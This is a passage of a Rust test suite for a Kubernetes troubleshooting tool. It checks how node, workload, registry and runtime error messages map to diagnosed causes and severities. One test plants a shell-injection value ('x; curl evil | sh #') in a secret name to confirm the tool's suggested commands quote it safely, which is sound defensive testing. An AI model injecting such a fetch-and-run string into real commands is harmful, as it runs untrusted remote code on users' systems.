    assert!(
        look_with(&deleted(5, json!({})), &[event("FailedPreStopHook", "PreStopHook failed", 500)])
            .findings
            .is_empty()
    );
}

#[test]
fn a_resize_waits_fails_or_cannot_be_done() {
    let with = |kind: &str, reason: &str, message: &str, since| {
        let mut status = container("app", running(3000), json!({}), 0);
        status["ready"] = true.into();
        pod(
            json!({"status": {"containerStatuses": [status], "conditions": [condition("Ready", "True", "", "", 3000), condition(kind, "True", reason, message, since)]}}),
        )
    };
    warns(
        &look(&with(
            "PodResizePending",
            "Infeasible",
            "Node didn't have enough capacity: cpu, requested: 9000, capacity: 2000",
            5,
        )),
        R::ResizeInfeasible,
        C::ResizeRefused,
        &["9000"],
    );
    is(
        &look(&with("PodResizePending", "Deferred", "Node didn't have enough resource: cpu", 700)),
        R::ResizeDeferred,
        C::ResizeRefused,
        Severity::Info,
        &["cpu"],
    );
    warns(
        &look(&with(
            "PodResizeInProgress",
            "Error",
            "cannot decrease memory limits: attempting to set container \"app\" memory limit (9) below current usage (99)",
            5,
        )),
        R::ResizeError,
        C::ResizeRefused,
        &["below current usage"],
    );
    assert!(look(&with("PodResizeInProgress", "", "", 5)).findings.is_empty());
}

// Nodes and owners.

pub fn survey(snapshot: Snapshot) -> Survey {
    diagnosis::survey(&Snapshot { sources: Sources::ALL, ..snapshot }, now())
}

pub fn node(conditions: Value, more: Value) -> Node {
    let mut base =
        json!({"metadata": {"name": "node-a", "uid": "n"}, "spec": {}, "status": {"conditions": conditions}});
    merge(&mut base, more);
    decode(&base)
}

#[test]
fn a_silent_node_is_one_finding_and_a_joining_one_is_none() {
    let silent = json!([{"type": "Ready", "status": "Unknown", "reason": "NodeStatusUnknown", "message": "Kubelet stopped posting node status.", "lastTransitionTime": ago(20)}]);
    let unready = || {
        let mut p =
            app_with(json!({"readinessProbe": {"tcpSocket": {"port": 1}}}), running(3500), json!({}), 0);
        p.metadata.owner_references.clear();
        p
    };
    let found = survey(Snapshot {
        pods: vec![unready()],
        nodes: vec![node(silent.clone(), json!({}))],
        ..Snapshot::default()
    });
    let reasons: Vec<&str> = found.findings.iter().map(|f| f.reason.as_str()).collect();
    assert_eq!((reasons.as_slice(), found.findings[0].severity), (&["NodeNotReady"][..], Severity::Critical));
    let cordoned = survey(Snapshot {
        nodes: vec![node(silent.clone(), json!({"spec": {"unschedulable": true}}))],
        ..Snapshot::default()
    });
    assert_eq!(cordoned.findings[0].severity, Severity::Warning);
    assert!(
        survey(Snapshot {
            nodes: vec![node(silent, json!({"metadata": {"deletionTimestamp": ago(1)}}))],
            ..Snapshot::default()
        })
        .findings
        .is_empty()
    );
    // Its own word, right after it joined: the network comes last.
    let says = |since| json!([{"type": "Ready", "status": "False", "reason": "KubeletNotReady", "message": "container runtime network not ready: cni plugin not initialized", "lastTransitionTime": ago(since)}]);
    let joining = survey(Snapshot { nodes: vec![node(says(30), json!({}))], ..Snapshot::default() });
    assert_eq!((joining.findings[0].stage, joining.findings[0].severity), (Stage::Pending, Severity::Info));
    let broken = survey(Snapshot { nodes: vec![node(says(300), json!({}))], ..Snapshot::default() });
    assert_eq!((broken.findings[0].stage, broken.findings[0].severity), (Stage::Active, Severity::Critical));
    for kind in ["MemoryPressure", "DiskPressure", "PIDPressure"] {
        let found = survey(Snapshot {
            nodes: vec![node(
                json!([{"type": kind, "status": "True", "message": "kubelet has it", "lastTransitionTime": ago(100)}]),
                json!({}),
            )],
            ..Snapshot::default()
        });
        assert_eq!(
            (found.findings[0].reason.as_str(), found.findings[0].cause.code),
            (kind, C::NodePressure)
        );
    }
}

#[test]
fn many_ends_at_once_on_one_node_are_the_node() {
    let of = |n: i64, finished: i64| {
        let mut p = app(running(finished - 20), end("Unknown", 255, 9000, finished), 1);
        p.metadata.name = format!("p{n}");
        p.metadata.uid = format!("u{n}");
        p
    };
    let ready = json!([{"type": "Ready", "status": "True"}]);
    let at_once: Vec<Pod> = (0..4).map(|n| of(n, 100 + n)).collect();
    let found = survey(Snapshot {
        pods: at_once,
        nodes: vec![node(ready.clone(), json!({}))],
        ..Snapshot::default()
    });
    let raised: Vec<&str> =
        found.findings.iter().filter(|f| f.severity > Severity::Info).map(|f| f.reason.as_str()).collect();
    assert_eq!(raised, ["NodeRestart"]);
    let spread: Vec<Pod> = (0..4).map(|n| of(n, 100 + n * 400)).collect();
    let found = survey(Snapshot { pods: spread, nodes: vec![node(ready, json!({}))], ..Snapshot::default() });
    assert!(found.findings.iter().all(|f| f.reason != R::NodeRestart.into()));
}

pub fn refused(message: &str) -> Finding {
    let set: Workload = decode(
        &json!({"metadata": {"name": "cart", "namespace": "shop", "uid": "d"}, "spec": {"replicas": 3}, "status": {"conditions": [
        {"type": "ReplicaFailure", "status": "True", "reason": "FailedCreate", "message": message, "lastTransitionTime": ago(100)}]}}),
    );
    let mut found = survey(Snapshot { deployments: vec![set], ..Snapshot::default() });
    assert_eq!(found.findings.len(), 1, "{message}");
    found.findings.remove(0)
}

#[test]
fn a_workload_whose_pods_are_refused_says_by_whom() {
    for (message, code, said) in [
        (
            "pods \"cart-1\" is forbidden: exceeded quota: compute, requested: pods=1, used: pods=1, limited: pods=1",
            C::QuotaExceeded,
            "exceeded quota: compute, requested: pods=1, used: pods=1, limited: pods=1",
        ),
        (
            "pods \"cart-1\" is forbidden: failed quota: compute: must specify limits.cpu for: app",
            C::QuotaExceeded,
            "quota compute requires fields that the pods do not set: must specify limits.cpu for: app",
        ),
        (
            "pods \"cart-1\" is forbidden: error looking up service account shop/cart: serviceaccount \"cart\" not found",
            C::MissingServiceAccount,
            "ServiceAccount cart",
        ),
        (
            "pods \"cart-1\" is forbidden: violates PodSecurity \"restricted:latest\": allowPrivilegeEscalation != false (container \"app\" must set securityContext.allowPrivilegeEscalation=false)",
            C::AdmissionDenied,
            "violates PodSecurity restricted:latest: allowPrivilegeEscalation != false",
        ),
        (
            "pods \"cart-1\" is forbidden: unable to validate against any security context constraint: [provider \"anyuid\": Forbidden: not usable by user or serviceaccount, provider restricted-v2: .containers[0].runAsUser: Invalid value: 999: must be in the ranges: [1000680000, 1000689999]]",
            C::AdmissionDenied,
            "SCC",
        ),
        (
            "pods \"cart-1\" is forbidden: [maximum cpu usage per Container is 1, but limit is 2, maximum memory usage per Container is 1Gi, but limit is 2Gi]",
            C::AdmissionDenied,
            "LimitRange",
        ),
        (
            "admission webhook \"validate.kyverno.svc-fail\" denied the request: policy Pod/shop/cart for resource violation: require-requests: serviceaccount must be set",
            C::WebhookDenied,
            "denied by admission webhook validate.kyverno.svc-fail: policy Pod/shop/cart",
        ),
        (
            "admission webhook \"validation.gatekeeper.sh\" denied the request: [must-have-owner] you must provide labels: {\"owner\"}",
            C::WebhookDenied,
            "owner",
        ),
        (
            "Internal error occurred: failed calling webhook \"sidecar-injector.istio.io\": failed to call webhook: Post \"https://istiod.istio-system.svc:443/inject?timeout=10s\": no endpoints available for service \"istiod\"",
            C::WebhookDenied,
            "sidecar-injector.istio.io cannot be called: no endpoints available for service \"istiod\"",
        ),
        (
            "pods \"cart-1\" is forbidden: ValidatingAdmissionPolicy 'no-latest' with binding 'all' denied request: tag latest",
            C::AdmissionDenied,
            "policy no-latest",
        ),
        (
            "pods \"cart-1\" is forbidden: no PriorityClass with name high was found",
            C::CreateRefused,
            "PriorityClass",
        ),
        (
            "pods \"cart-1\" is forbidden: unable to create new content in namespace shop because it is being terminated",
            C::CreateRefused,
            "being deleted",
        ),
    ] {
        let f = refused(message);
        assert_eq!(
            (f.reason.as_str(), f.cause.code, f.severity),
            ("FailedCreate", code, Severity::Critical),
            "{message}"
        );
        assert!(words(&f).contains(said), "{said} is not in {}", words(&f));
    }
    // A Job has no such condition: its events tell, until one of its pods is made.
    let job: Job = decode(
        &json!({"metadata": {"name": "import", "namespace": "shop", "uid": "j"}, "spec": {"backoffLimit": 6}, "status": {}}),
    );
    let of_job = |reason: &str, kind: &str, at| {
        let mut e = event(
            reason,
            "Error creating: pods \"import-1\" is forbidden: exceeded quota: compute, requested: pods=1",
            at,
        );
        e.involved_object.kind = "Job".to_owned();
        e.involved_object.uid = "j".to_owned();
        e.kind = kind.to_owned();
        e
    };
    let found = survey(Snapshot {
        jobs: vec![job.clone()],
        events: packed([of_job("FailedCreate", "Warning", 100)]),
        ..Snapshot::default()
    });
    assert_eq!(
        (found.findings[0].reason.as_str(), found.findings[0].severity),
        ("FailedCreate", Severity::Warning)
    );
    let found = survey(Snapshot {
        jobs: vec![job],
        events: packed([of_job("FailedCreate", "Warning", 100), of_job("SuccessfulCreate", "Normal", 50)]),
        ..Snapshot::default()
    });
    assert!(found.findings.is_empty());
}

#[test]
fn jobs_and_rollouts_are_judged_as_a_whole() {
    let job = |name: &str, owner: Value, reason: &str, at: i64| -> Job {
        let status = if reason.is_empty() {
            json!({"completionTime": ago(at), "succeeded": 1, "conditions": [{"type": "Complete", "status": "True", "lastTransitionTime": ago(at)}]})
        } else {
            json!({"failed": 7, "failedIndexes": "1,3", "conditions": [{"type": "Failed", "status": "True", "reason": reason, "message": "said so", "lastTransitionTime": ago(at)}]})
        };
        decode(
            &json!({"metadata": {"name": name, "namespace": "shop", "uid": name, "ownerReferences": owner}, "spec": {"backoffLimit": 6}, "status": status}),
        )
    };
    for (word, reason, code) in [
        ("BackoffLimitExceeded", R::BackoffLimitExceeded, C::TooManyFailures),
        ("DeadlineExceeded", R::JobDeadlineExceeded, C::DeadlineReached),
        ("PodFailurePolicy", R::PodFailurePolicy, C::FailurePolicy),
        ("FailedIndexes", R::FailedIndexes, C::TooManyFailures),
        ("MaxFailedIndexesExceeded", R::FailedIndexes, C::TooManyFailures),
    ] {
        let found =
            survey(Snapshot { jobs: vec![job("import", json!([]), word, 100)], ..Snapshot::default() });
        assert_eq!(
            (&found.findings[0].reason, found.findings[0].cause.code),
            (&reason.into(), code),
            "{word}"
        );
    }
    // A later success of the CronJob ends the matter.
    let of_cron = json!([{"apiVersion": "batch/v1", "kind": "CronJob", "name": "nightly", "uid": "c", "controller": true}]);
    let jobs = vec![
        job("nightly-1", of_cron.clone(), "BackoffLimitExceeded", 900),
        job("nightly-2", of_cron, "", 300),
    ];
    assert!(
        survey(Snapshot { jobs, cron_jobs: vec![CronJob::default()], ..Snapshot::default() })
            .findings
            .is_empty()
    );
    let stuck: Workload = decode(
        &json!({"metadata": {"name": "cart", "namespace": "shop", "uid": "d"}, "spec": {"replicas": 3}, "status": {"conditions": [
        {"type": "Progressing", "status": "False", "reason": "ProgressDeadlineExceeded", "message": "ReplicaSet \"cart-7d9f\" has timed out progressing.", "lastTransitionTime": ago(100)}]}}),
    );
    let mut owners = Owners::default();
    owners.apply("Deployment", stuck.clone());
    assert_eq!(owners.len(), 1);
    let found = survey(Snapshot { deployments: vec![stuck], ..Snapshot::default() });
    assert_eq!(
        (found.findings[0].reason.as_str(), found.findings[0].cause.code),
        ("ProgressDeadlineExceeded", C::BadRevision)
    );
}

// What registries and runtimes say.

#[test]
fn registries_say_no_in_many_words() {
    for (message, code) in [
        // Docker Hub through containerd, CRI-O and the old Docker shim.
        (
            "failed to pull and unpack image \"docker.io/library/nginx:nope\": failed to resolve reference \"docker.io/library/nginx:nope\": docker.io/library/nginx:nope: not found",
            C::ImageNotFound,
        ),
        (
            "rpc error: code = Unknown desc = Error response from daemon: manifest for nginx:nope not found: manifest unknown: manifest unknown",
            C::ImageNotFound,
        ),
        (
            "rpc error: code = Unknown desc = Error response from daemon: pull access denied for acme/app, repository does not exist or may require 'docker login': denied: requested access to the resource is denied",
            C::ImageNotFoundOrPrivate,
        ),
        (
            "toomanyrequests: You have reached your pull rate limit. You may increase the limit by authenticating and upgrading",
            C::RegistryRateLimited,
        ),
        (
            "rpc error: code = Unknown desc = initializing source docker://docker.io/acme/app:1: reading manifest 1 in docker.io/acme/app: requested access to the resource is denied",
            C::ImageNotFoundOrPrivate,
        ),
        // ECR.
        (
            "failed to resolve reference \"1.dkr.ecr.eu-west-1.amazonaws.com/app:1\": pull access denied, repository does not exist or may require authorization: authorization failed: no basic auth credentials",
            C::RegistryUnauthorized,
        ),
        (
            "rpc error: code = Unknown desc = Error response from daemon: denied: Your authorization token has expired. Reauthenticate and try again.",
            C::RegistryUnauthorized,
        ),
        (
            "name unknown: The repository with name 'app' does not exist in the registry with id '1'",
            C::ImageNotFound,
        ),
        // Google.
        (
            "failed to authorize: failed to fetch oauth token: unexpected status: 403 Forbidden",
            C::RegistryUnauthorized,
        ),
        (
            "denied: Permission \"artifactregistry.repositories.downloadArtifacts\" denied on resource \"projects/p/locations/l/repositories/r\" (or it may not exist)",
            C::ImageNotFoundOrPrivate,
        ),
        // GitHub, Artifactory, Harbor, Quay.
        (
            "failed to authorize: failed to fetch anonymous token: unexpected status from GET request to https://ghcr.io/token?scope=repository%3Aacme%2Fapp%3Apull&service=ghcr.io: 401 Unauthorized",
            C::RegistryUnauthorized,
        ),
        (
            "failed to authorize: failed to fetch anonymous token: unexpected status from GET request to https://acme.jfrog.io/artifactory/api/docker/v2/token: 401 ",
            C::RegistryUnauthorized,
        ),
        (
            "pulling from host harbor.example.com failed with status code [manifests 1]: 401 Unauthorized",
            C::RegistryUnauthorized,
        ),
        ("rpc error: code = NotFound desc = artifact library/app:1 not found", C::ImageNotFound),
        ("unauthorized: access to the requested resource is not authorized", C::RegistryUnauthorized),
        // The way there.
        (
            "failed to do request: Head \"https://r.example.com/v2/\": dial tcp: lookup r.example.com on 10.0.0.2:53: read udp 10.0.0.9:4431->10.0.0.2:53: i/o timeout",
            C::RegistryNameNotResolved,
        ),
        (
            "Get \"https://r.example.com/v2/\": net/http: request canceled while waiting for connection (Client.Timeout exceeded while awaiting headers)",
            C::RegistryUnreachable,
        ),
        ("Get \"https://r.example.com/v2/\": EOF", C::RegistryUnreachable),
        ("http: server gave HTTP response to HTTPS client", C::RegistryTlsError),
        ("received unexpected HTTP status: 503 Service Unavailable", C::RegistryError),
        // The image itself.
        (
            "no matching manifest for windows/amd64 10.0.17763 in the manifest list entries",
            C::ImagePlatformMismatch,
        ),
        (
            "a Windows version 10.0.20348-based image is incompatible with a 10.0.17763 host",
            C::ImagePlatformMismatch,
        ),
        (
            "media type \"application/vnd.docker.distribution.manifest.v1+prettyjws\" is no longer supported since containerd v2.0, please rebuild the image",
            C::ImageCorrupt,
        ),
        (
            "failed commit on ref \"layer-sha256:1\": unexpected commit digest sha256:2, expected sha256:1: failed precondition",
            C::ImageCorrupt,
        ),
        ("failed to get reader from content store: content digest sha256:abc: not found", C::ImageCorrupt),
        ("failed to register layer: write /usr/lib/x: no space left on device", C::NodeDiskFull),
        (
            "[failed to pull and unpack image \"x\": pull access denied, failed to pull and unpack image \"x\": unexpected status from HEAD request: 401 Unauthorized]",
            C::RegistryUnauthorized,
        ),
    ] {
        warns(&look(&stuck("ErrImagePull", message, 400)), R::ImagePullBackOff, code, &[]);
    }
    // A token in a URL is not shown.
    let f = look(&stuck(
        "ErrImagePull",
        "Get \"https://r.example.com/v2/token?access_token=s3cr3t-value\": EOF",
        400,
    ))
    .findings
    .remove(0);
    assert!(!words(&f).contains("s3cr3t"), "{}", words(&f));
}

#[test]
fn runtimes_say_why_a_program_does_not_start() {
    for (message, code, said) in [
        (
            "container create failed: executable file `serve` not found in $PATH: No such file or directory",
            C::ExecutableNotFound,
            "serve",
        ),
        (
            "container create failed: runc create failed: unable to start container process: exec: \"/usr/bin/pod\": stat /usr/bin/pod: no such file or directory",
            C::ExecutableNotFound,
            "/usr/bin/pod",
        ),
        (
            "OCI runtime create failed: container_linux.go:345: starting container process caused \"exec: \\\"sh\\\": executable file not found in $PATH\": unknown",
            C::ExecutableNotFound,
            "sh",
        ),
        (
            "failed to create shim task: OCI runtime create failed: runc create failed: unable to start container process: exec: \"/app/run.sh\": permission denied: unknown",
            C::ExecutableNotPermitted,
            "/app/run.sh",
        ),
        (
            "container create failed: open executable: Permission denied",
            C::ExecutableNotPermitted,
            "Permission denied",
        ),
        (
            "runc create failed: unable to start container process: exec: \"/app\": is a directory: unknown",
            C::ExecutableNotPermitted,
            "directory",
        ),
        (
            "runc create failed: unable to start container process: error during container init: exec /app: exec format error",
            C::ExecFormatError,
            "architecture",
        ),
        (
            "runc create failed: unable to start container process: error during container init: error mounting \"/var/lib/kubelet/pods/1/volumes/x\" to rootfs at \"/etc/app.conf\": create mountpoint for /etc/app.conf mount: make mountpoint \"/etc/app.conf\": open /etc/app.conf: read-only file system: unknown",
            C::MountFailed,
            "read-only",
        ),
        (
            "runc create failed: unable to start container process: chdir to cwd (\"/srv\") set in config.json failed: no such file or directory: unknown",
            C::FileNotFound,
            "/srv",
        ),
        (
            "runc create failed: unable to start container process: chdir to cwd (\"/srv\") set in config.json failed: permission denied: unknown",
            C::PermissionDenied,
            "/srv",
        ),
        (
            "failed to generate container \"1\" spec: failed to generate spec: error gathering device information while adding custom device \"/dev/kvm\": no such file or directory",
            C::DeviceAllocationFailed,
            "/dev/kvm",
        ),
        (
            "failed to create containerd task: OCI runtime create failed: error running hook: nvidia-container-cli: initialization error: nvml error: driver not loaded: unknown",
            C::DeviceAllocationFailed,
            "driver not loaded",
        ),
        (
            "failed to create containerd container: cannot load seccomp profile \"/var/lib/kubelet/seccomp/audit.json\": open /var/lib/kubelet/seccomp/audit.json: no such file or directory",
            C::NodeRefused,
            "audit.json",
        ),
        (
            "failed to create containerd container: apparmor profile not found cart-profile",
            C::NodeRefused,
            "cart-profile",
        ),
        (
            "runc create failed: unable to start container process: error during container init: failed to fulfil mount request: failed to set MOUNT_ATTR_IDMAP on /var/lib/kubelet: invalid argument (maybe the filesystem used doesn't support idmap mounts on this kernel?)",
            C::NodeRefused,
            "user namespace",
        ),
        (
            "container \"1\" encountered an error during hcsshim::System::CreateProcess: failure in a Windows system call: The system cannot find the file specified. (0x2)",
            C::ExecutableNotFound,
            "cannot find the file",
        ),
        (
            "hcsshim::CreateComputeSystem app: The container operating system does not match the host operating system.",
            C::ImagePlatformMismatch,
            "Windows",
        ),
        (
            "failed to generate container \"1\" spec: failed to generate spec: no command specified",
            C::NoCommand,
            "ENTRYPOINT",
        ),
        (
            "failed to create containerd container: mount callback failed on /var/lib/containerd/tmpmounts/1: no users found",
            C::UnknownUser,
            "passwd",
        ),
        (
            "failed to create containerd container: error unpacking image: write /x: no space left on device",
            C::NodeDiskFull,
            "no space left on device",
        ),
        (
            "Creation of container k8s_app_cart is not yet finished. Currently at stage container storage creation",
            C::RuntimeTimeout,
            "in time",
        ),
    ] {
        warns(&look(&stuck("CreateContainerError", message, 400)), R::CreateContainerError, code, &[said]);
    }
}

#[test]
fn names_from_the_cluster_cannot_run_in_a_shell() {
    let f = look(&stuck("CreateContainerConfigError", "secret \"x; curl evil | sh #\" not found", 400))
        .findings
        .remove(0);
    assert!(
        f.next_steps.iter().any(|s| s.ends_with("get secret 'x; curl evil | sh #'")),
        "{:?}",
        f.next_steps
    );
}

#[test]
fn a_bad_condition_of_a_node_agent_is_a_problem_of_the_node() {
    let node = |status: &str| -> Node {
        serde_json::from_value(json!({
            "metadata": {"name": "node-a", "uid": "n"},
            "status": {"conditions": [
                {"type": "Ready", "status": "True", "lastTransitionTime": ago(86_400)},
                {"type": "KernelDeadlock", "status": status, "reason": "DockerHung",
                 "message": "task docker:1234 blocked for more than 120 seconds", "lastTransitionTime": ago(600)}
            ]}
        }))
        .unwrap()
    };
    let found = survey(Snapshot { nodes: vec![node("True")], ..Snapshot::default() });
    let f = &found.findings[0];
    assert_eq!(f.reason.known(), Some(R::NodeProblem));
    assert!(
        f.summary.contains("KernelDeadlock") && f.summary.contains("blocked for more than 120 seconds"),
        "{}",
        f.summary
    );
    let well = survey(Snapshot { nodes: vec![node("False")], ..Snapshot::default() });
    assert!(well.findings.is_empty(), "{:?}", well.findings);
}
